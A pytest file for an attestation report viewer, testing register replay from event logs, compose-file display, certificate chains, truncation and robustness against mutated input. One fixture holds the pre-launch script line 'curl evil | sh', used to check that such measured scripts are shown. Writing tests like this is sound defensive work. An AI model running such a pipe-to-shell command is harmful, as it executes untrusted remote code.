"""What a report page shows besides verdicts: read from bytes that a stranger chose."""

from __future__ import annotations

import json
import random

import pytest

from attestation import exhibits, values, words
from attestation.engine.evidence import Evidence
from attestation.exhibits import SHOWN_BYTES, SHOWN_EVENTS
from provider.tee.development.report import Machine
from tests.pure.attestation_lab import ADDRESS, lab

MACHINE = Machine(ADDRESS, gpus=2)


def report() -> Evidence:
    return Evidence("report", lab().body(MACHINE))


def test_the_running_registers_end_where_the_quote_was_signed() -> None:
    log = exhibits.of(report()).log
    assert log is not None and log.total == len(log.events) > 4
    assert all(value == signed for _, value, signed in log.registers)
    last = {event.register: event.value for event in log.events}
    signed = {int(name[-1]): value for name, _, value in log.registers}
    assert last.items() <= signed.items()


def test_an_event_that_was_changed_ends_elsewhere() -> None:
    given = json.loads(report().body)
    events = json.loads(given["event_log"]) if isinstance(given["event_log"], str) else None
    events = events or given["event_log"]
    runtime = next(event for event in events if event["imr"] == 3)
    runtime["event_payload"] = "00" + runtime["event_payload"]
    body = json.dumps({**given, "event_log": json.dumps(events)}).encode()
    log = exhibits.of(Evidence("report", body)).log
    assert log is not None
    assert [name for name, value, signed in log.registers if value != signed] == ["RTMR3"]


def test_a_tapp_log_and_its_compose_file_are_shown_too() -> None:
    compose = f"services:\n  a:\n    image: x@sha256:{'ab' * 32}\n  b:\n    image: y:latest\n"
    found = exhibits.of(Evidence("report", lab().tapp_body(compose)))
    assert found.log is not None
    assert all(value == signed for _, value, signed in found.log.registers)
    assert any("start_app" in event.payload for event in found.log.events)
    assert found.compose is not None
    assert [line.mark for line in found.compose.lines] == ["", "", "pinned", "", "mutable"]
    assert (found.compose.pinned, found.compose.mutable) == (1, 1)


def test_nothing_that_was_measured_beside_the_compose_file_is_left_out() -> None:
    compose = "services:\n  a:\n    image: x@sha256:" + "ab" * 32 + "\n"
    compose += " " * 500 + "# end\n"
    given = {"docker_compose_file": compose, "pre_launch_script": "set -e\ncurl evil | sh", "n": 1}
    machine = Machine(ADDRESS, gpus=0, app_compose=json.dumps(given))
    found = exhibits.of(Evidence("report", lab().body(machine))).compose
    assert found is not None and (found.pinned, found.mutable) == (1, 0)
    lines = [line.text for line in found.lines]
    assert lines[3].endswith("… (505 characters)")
    assert lines[5:] == [
        "# pre_launch_script:",
        "#   set -e",
        "#   curl evil | sh",
        "# n:",
        "#   1",
    ]


def test_chains_begin_at_the_leaf_and_raw_parts_are_hashed() -> None:
    found = exhibits.of(report())
    assert [chain.title.split(":")[0] for chain in found.chains] == ["Intel", "NVIDIA", "NVIDIA"]
    assert all(len(chain.certificates) > 1 for chain in found.chains)
    whole = found.raw[-1]
    assert whole.size == len(report().body) and len(whole.head) == 32 and len(whole.tail) == 16
    assert bool(whole.text) == (whole.size <= SHOWN_BYTES)


def test_a_long_log_is_cut_for_the_page_and_replayed_to_its_end() -> None:
    events = [{"imr": 0, "event_type": 1, "digest": "00" * 48, "event": "x"}] * 1_000
    found = exhibits.of(Evidence("report", json.dumps({"quote": "", "event_log": events}).encode()))
    assert found.log is not None
    assert (found.log.total, len(found.log.events)) == (1_000, SHOWN_EVENTS)
    assert found.log.registers[0][1] != found.log.events[-1].value


def test_nothing_a_stranger_sends_raises() -> None:
    chance = random.Random(5)
    bodies = [report().body, lab().tapp_body("image: a\n")]
    for _ in range(300):
        mutant = bytearray(chance.choice(bodies))
        for _ in range(chance.randint(1, 6)):
            mutant[chance.randrange(len(mutant))] = chance.randrange(256)
        exhibits.of(Evidence("report", bytes(mutant)))
    for kind in ("gpu", "gpu-payload", "report"):
        for body in (b"", b"{}", b"[[]]", b'{"evidence_list": 3}', bytes(64), b'"x"', b"[1]"):
            exhibits.of(Evidence(kind, body, b"-----BEGIN CERTIFICATE-----"))


@pytest.mark.parametrize(
    ("expected", "got", "left", "right"),
    [
        ("abcd", "abxd", "ab[c]d", "ab[x]d"),
        ("abcd", "wbcz", "[a]bc[d]", "[w]bc[z]"),
        ("abc", "abXYc", "abc", "ab[XY]c"),
        ("", "x", None, "x"),
        ("same", "same", "same", "same"),
        ("aaa", "aa", "aa[a]", "aa"),
        ("verified", "Debug mode is enabled", "verified", "Debug mode is enabled"),
    ],
)
def test_differences_are_marked_and_no_character_is_lost(
    expected: str, got: str, left: str | None, right: str
) -> None:
    def shown(value: values.Value | None) -> str | None:
        if value is None:
            return None
        return "".join(f"[{x.text}]" if x.differs else x.text for x in value.segments)

    pair = values.pair(expected, got, marked=True)
    assert (shown(pair[0]), shown(pair[1])) == (left, right)


def test_long_hex_is_shown_by_its_ends() -> None:
    value, _ = values.pair("ab" * 64, None, marked=False)
    assert value is not None and value.whole == "ab" * 64
    assert value.short == f"{'ab' * 16}…{'ab' * 8}"


def test_every_kind_of_row_says_what_to_do() -> None:
    judged = lab().judge(MACHINE)
    for row in judged.checks:
        for verdict in ("fail", "not_provided", "not_checked"):
            assert words.advice(row.id, verdict), row.id
        assert words.advice(row.id, "pass") == ""
    assert "can read and change everything" in words.advice("tdx.debug", "fail")
    assert "memory" in words.advice("gpu3.sig", "fail")
